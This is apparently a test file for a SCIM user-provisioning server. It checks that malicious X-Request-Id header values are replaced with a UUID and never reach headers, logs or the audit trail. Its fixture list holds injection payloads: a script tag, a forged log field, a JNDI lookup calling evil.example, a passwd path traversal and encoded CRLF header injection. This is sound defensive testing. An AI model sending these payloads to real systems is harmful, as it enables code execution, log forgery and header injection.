import assert from 'node:assert/strict';
import supertest from 'supertest';
import { startTestApp, TEST_TOKEN, user, type TestApp } from '../support/app.js';
import { bulk, patchOp } from './helpers.js';

const ADMIN_TOKEN = 'request-id-admin-token-0123456789';
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

/** X-Request-Id values a client can send (Node's HTTP parser refuses control characters other than tab). */
const HOSTILE: [string, string][] = [
  ['129 characters', 'r'.repeat(129)],
  ['a space', 'abc def'],
  ['markup', '<script>alert(1)</script>'],
  ['a forged log field', '","level":"fatal","msg":"forged'],
  ['a lookup expression', '${jndi:ldap://evil.example/a}'],
  ['a path', '../../etc/passwd'],
  ['a tab', 'id\tinjected'],
  ['percent-encoded CRLF', 'x%0d%0aSet-Cookie:%20a=b'],
  ['a Latin-1 byte', 'caf\u00e9'],
];

/**
 * A client's X-Request-Id is used only when it is 1–128 characters of [A-Za-z0-9._:-]; anything
 * else is replaced by a fresh UUID before it reaches a response header, a log line, an audit entry
 * or an event, on every path: SCIM writes, Bulk, errors and the admin API.
 */
describe('X-Request-Id: a hostile value never reaches headers, logs or the audit trail', function () {
  this.timeout(60_000);
  let t: TestApp;
  let agent: supertest.Agent;
  const entries: Record<string, unknown>[] = [];

  before(async () => {
    t = await startTestApp('security-request-id', { ADMIN_TOKEN }, { log: (entry) => entries.push(entry) });
    agent = supertest.agent(t.app);
  });
  after(() => t.close());

  it('keeps a sane one everywhere (the control case)', async () => {
    const created = await agent.post('/scim/v2/Users').set('Authorization', `Bearer ${TEST_TOKEN}`).set('X-Request-Id', 'okta-req:42.a_b-c').send(user('sane-request-id@example.com'));
    assert.equal(created.headers['x-request-id'], 'okta-req:42.a_b-c');
    const [audit] = await t.storage.audit.query({ tenant: 'default', resourceId: String(created.body.id), limit: 10 });
    assert.equal(audit?.requestId, 'okta-req:42.a_b-c');
  });

  for (const [what, hostile] of HOSTILE) {
    it(`replaces one with ${what}`, async () => {
      entries.length = 0;
      const scim = (test: supertest.Test) => test.set('Authorization', `Bearer ${TEST_TOKEN}`).set('X-Request-Id', hostile);
      const suffix = String(HOSTILE.findIndex(([name]) => name === what));
      const created = await scim(agent.post('/scim/v2/Users')).send(user(`request-id-${suffix}@example.com`));
      assert.equal(created.status, 201);
      const id = String(created.body.id);
      const responses = [
        created,
        await scim(agent.patch(`/scim/v2/Users/${id}`)).send(patchOp({ op: 'replace', path: 'title', value: 'patched' })),
        await scim(agent.post('/scim/v2/Bulk')).send(bulk({ method: 'POST', path: '/Users', bulkId: 'b', data: user(`request-id-bulk-${suffix}@example.com`) })),
        await scim(agent.get('/scim/v2/Users/00000000-0000-4000-8000-000000000000')),
        await scim(agent.post('/scim/v2/Users')).send({ userName: 42 }),
        await agent.get('/admin/audit').set('Authorization', `Bearer ${ADMIN_TOKEN}`).set('X-Request-Id', hostile),
        await agent.get('/healthz').set('X-Request-Id', hostile),
      ];
      assert.deepEqual(responses.map((response) => response.status), [201, 200, 200, 404, 400, 200, 200]);
      for (const response of responses) assert.match(String(response.headers['x-request-id']), UUID);

      const bulkId = String(responses[2]!.body.Operations[0].location).split('/').pop()!;
      for (const [resourceId, response] of [
        [id, created],
        [bulkId, responses[2]!],
      ] as const) {
        const audit = await t.storage.audit.query({ tenant: 'default', resourceId, limit: 10 });
        const events = await t.storage.events.forSubject('default', resourceId);
        assert.ok(audit.length > 0 && events.length > 0);
        assert.ok(audit.some((entry) => entry.requestId === response.headers['x-request-id']));
        for (const recorded of [...audit, ...events]) assert.match(recorded.requestId, UUID);
      }
      const stored = JSON.stringify([entries, await t.storage.audit.query({ tenant: 'default', limit: 1000 })]);
      assert.ok(!stored.includes(hostile) && !stored.includes(JSON.stringify(hostile).slice(1, -1)), `${JSON.stringify(hostile)} was logged or stored`);
      assert.equal(entries.filter((entry) => entry['msg'] === 'request').length, responses.length);
    });
  }
});
